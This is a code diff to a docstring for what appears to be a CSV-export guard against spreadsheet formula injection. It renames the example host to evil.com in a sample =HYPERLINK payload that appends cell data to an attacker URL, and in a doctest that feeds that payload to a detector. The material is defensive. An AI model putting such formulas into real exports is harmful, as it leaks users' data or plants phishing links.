@@ -2,7 +2,7 @@
 
 Excel, LibreOffice and Google Sheets treat a cell that starts with ``=``, ``+``, ``-`` or ``@``
 (and, in some versions, a tab or carriage return before one) as a formula, and run it when the
-CSV is opened: ``=HYPERLINK("https://evil.example/?"&A1, "Sign")`` in a translation would turn
+CSV is opened: ``=HYPERLINK("https://evil.com/?"&A1, "Sign")`` in a translation would turn
 an organizer's content calendar into a phishing link or a data leak (CWE-1236).
 
 The usual cure, prefixing the cell with ``'``, alters the post: schedulers import the
@@ -16,7 +16,7 @@ control or format character: a no-break space, U+3000, a zero-width space, a byt
 mark...), which a spreadsheet may drop before it looks at the cell and an organizer cannot
 see.
 
->>> formula_trigger("=HYPERLINK(\\"https://evil.example\\")")
+>>> formula_trigger("=HYPERLINK(\\"https://evil.com\\")")
 '='
 >>> formula_trigger("@iocmedia, stand by your charter") is not None
 True
